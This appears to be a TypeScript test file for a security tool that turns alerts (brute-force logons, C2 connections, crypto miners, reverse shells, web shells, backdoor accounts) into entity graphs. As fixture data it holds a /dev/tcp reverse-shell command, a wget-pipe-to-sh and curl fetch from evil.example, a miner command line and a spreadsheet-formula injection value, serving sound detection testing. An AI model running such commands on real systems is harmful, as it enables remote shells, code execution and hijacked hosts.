import { test } from "node:test";
import assert from "node:assert/strict";
import type { Alert } from "../core/index.ts";
import { alertEntities, commandLineEndpoints } from "./entities.ts";

const alert = (over: Partial<Alert>): Alert => ({
  id: "al_1", accountId: "default", assetId: "a1", type: "ssh_brute_force", ruleId: "r", name: "n", severity: "high", status: "unhandled", dedupKey: "k",
  firstSeen: 1000, lastSeen: 2000, count: 1, sourceIp: null, userName: null, attack: [], evidence: {}, triage: "", response: null, handledHow: null,
  whitelistedBy: null, createdAt: 1000, updatedAt: 2000, ...over,
});
const rel = (g: ReturnType<typeof alertEntities>) => g.edges.map((e) => `${e.from} ${e.relation} ${e.to}`).sort();
const keys = (g: ReturnType<typeof alertEntities>) => g.entities.map((e) => `${e.key}${e.malicious ? " !" : ""}`).sort();

test("EVT-4 a logon alert: the attacker's address attacked the host, the account logged on from it", () => {
  const g = alertEntities(alert({ type: "logon_after_brute_force", sourceIp: "198.51.100.7", userName: "root", evidence: { "source.ip": "198.51.100.7", "user.name": "root" } }));
  assert.deepEqual(keys(g), ["account:a1:root", "host:a1", "ip:198.51.100.7 !"]);
  assert.deepEqual(rel(g), ["account:a1:root logged_on_from ip:198.51.100.7", "ip:198.51.100.7 attacked host:a1"]);
  const e = g.entities.find((x) => x.kind === "ip")!;
  assert.deepEqual([e.assetId, e.firstSeen, e.lastSeen], [null, 1000, 2000], "an address is not bound to an asset");
});

test("EVT-4 a connection alert's local source address is no attacker; a DNS client is no attacker", () => {
  const g = alertEntities(alert({ type: "malicious_ip", evidence: { "source.ip": "10.0.0.5", "destination.ip": "5.9.99.99", "destination.intel": { category: "c2" }, "process.executable": "/usr/bin/curl" } }));
  assert.deepEqual(keys(g), ["host:a1", "ip:5.9.99.99 !", "process:a1:/usr/bin/curl !"]);
  assert.deepEqual(rel(g), ["process:a1:/usr/bin/curl connected_to ip:5.9.99.99", "process:a1:/usr/bin/curl ran_on host:a1"]);
  const d = alertEntities(alert({ type: "malicious_domain", evidence: { "source.ip": "10.0.0.5", "dns.question.name": "Pool.Bad.Example.", "dns.intel": { listed: true }, "dns.answers": [{ data: "5.9.1.2", type: "A" }, { data: "alias.example", type: "CNAME" }] } }));
  assert.deepEqual(keys(d), ["domain:pool.bad.example !", "host:a1", "ip:5.9.1.2"]);
  assert.deepEqual(rel(d), ["domain:pool.bad.example resolved ip:5.9.1.2", "host:a1 resolved domain:pool.bad.example"]);
});

test("EVT-4 a miner: its process tree (spawned), the pool in its command line, the endpoint it keeps talking to", () => {
  const g = alertEntities(alert({
    type: "mining_program",
    evidence: {
      "process.executable": "/tmp/.x/xmrig (deleted)", "process.name": "xmrig",
      "process.command_line": "/tmp/.x/xmrig -o pool.minexmr.example:4444 -u 44AF --donate-level 1 http://198.51.100.9:8080/cfg.json",
      "process.parent": { pid: 20, name: "dropper", executable: "/tmp/.x/dropper" },
      "process.ancestors": [{ pid: 20, name: "dropper", executable: "/tmp/.x/dropper" }, { pid: 10, name: "bash", executable: "/usr/bin/bash" }, { pid: 1, name: "systemd" }],
      "process.network": { external: true, ip: "5.9.10.11" },
    },
  }));
  assert.deepEqual(keys(g), [
    "domain:pool.minexmr.example !", "host:a1", "ip:198.51.100.9 !", "ip:5.9.10.11", "process:a1:/tmp/.x/dropper", "process:a1:/tmp/.x/xmrig !", "process:a1:/usr/bin/bash",
    "process:a1:systemd", "url:http://198.51.100.9:8080/cfg.json !",
  ]);
  assert.deepEqual(rel(g), [
    "process:a1:/tmp/.x/dropper spawned process:a1:/tmp/.x/xmrig", "process:a1:/tmp/.x/xmrig connected_to domain:pool.minexmr.example",
    "process:a1:/tmp/.x/xmrig connected_to ip:198.51.100.9", "process:a1:/tmp/.x/xmrig connected_to ip:5.9.10.11",
    "process:a1:/tmp/.x/xmrig connected_to url:http://198.51.100.9:8080/cfg.json", "process:a1:/tmp/.x/xmrig ran_on host:a1",
    "process:a1:/usr/bin/bash spawned process:a1:/tmp/.x/dropper", "process:a1:systemd spawned process:a1:/usr/bin/bash",
  ]);
});

test("EVT-4 a reverse shell's /dev/tcp peer, an SSH session's peer and user, a web shell, backdoor accounts", () => {
  const rs = alertEntities(alert({ type: "reverse_shell", evidence: { "process.executable": "/usr/bin/bash", "process.command_line": "bash -i >& /dev/tcp/5.9.7.7/4444 0>&1", session: { sshdPid: 9, user: "deploy", sourceIp: "198.51.100.3" } } }));
  assert.deepEqual(keys(rs), ["account:a1:deploy", "host:a1", "ip:198.51.100.3 !", "ip:5.9.7.7 !", "process:a1:/usr/bin/bash !"]);
  assert.ok(rel(rs).includes("account:a1:deploy logged_on_from ip:198.51.100.3"));
  assert.ok(rel(rs).includes("ip:198.51.100.3 attacked host:a1"));
  const ws = alertEntities(alert({ type: "web_shell", evidence: { "file.path": "/var/www/html/x.php", "source.ip": null } }));
  assert.deepEqual([keys(ws), rel(ws)], [["file:a1:/var/www/html/x.php !", "host:a1"], ["host:a1 wrote file:a1:/var/www/html/x.php"]]);
  assert.deepEqual(keys(alertEntities(alert({ type: "suspicious_web_file", evidence: { "file.path": "/var/www/html/x.php" } }))), ["file:a1:/var/www/html/x.php", "host:a1"], "suspicious is not malicious");
  assert.deepEqual(keys(alertEntities(alert({ type: "backdoor_account_created", evidence: { "inventory.backdoorNames": ["toor", 7, "=HYPERLINK(\"x\")"] } }))), ["account:a1:=HYPERLINK(\"x\") !", "account:a1:toor !", "host:a1"]);
});

test("EVT-1 hostile evidence: wrong types are ignored, entities and labels are bounded, nothing throws", () => {
  const long = "/var/www/" + "a".repeat(100_000);
  const g = alertEntities(alert({
    sourceIp: "not-an-ip", userName: null,
    evidence: {
      "source.ips": Array.from({ length: 10_000 }, (_, i) => `5.${i >> 8 & 255}.${i & 255}.1`), "user.name": 42, session: "x", "process.parent": [1],
      "process.ancestors": { a: 1 }, "process.executable": long, "file.path": long, "dns.question.name": "a".repeat(300), "process.network": null, "dns.answers": "x",
      "process.command_line": 12, "inventory.backdoorNames": null, "destination.ip": { ip: "1.2.3.4" },
    },
  }));
  assert.ok(g.entities.length <= 64);
  assert.ok(g.entities.every((e) => e.key.length <= 1200 && e.label.length <= 1024));
  assert.ok(g.entities.some((e) => e.key === "host:a1"));
  assert.deepEqual(keys(alertEntities(alert({ evidence: undefined as unknown as Record<string, unknown> }))), ["host:a1"]);
});

test("EVT-1 command-line endpoints are found in linear time on megabyte-sized attacker text", () => {
  assert.deepEqual(commandLineEndpoints("wget -q http://user:pw@[2001:db8::1]:8080/x -O- | sh; curl https://evil.example/a.sh"), { urls: ["http://user:pw@[2001:db8::1]:8080/x", "https://evil.example/a.sh"], hosts: ["2001:db8::1", "evil.example"] });
  assert.deepEqual(commandLineEndpoints("minerd --url=stratum.example:3333 -o 5.9.10.11:4444").hosts, ["stratum.example", "5.9.10.11"]);
  for (const evil of ["http://".repeat(200_000), " -o ".repeat(300_000), "/dev/tcp/".repeat(150_000), `-o ${"a".repeat(1_000_000)}`, `http://${"a".repeat(1_000_000)}`]) {
    const t = performance.now();
    commandLineEndpoints(evil);
    assert.ok(performance.now() - t < 100, `${evil.slice(0, 12)}…: ${performance.now() - t} ms`);
  }
});
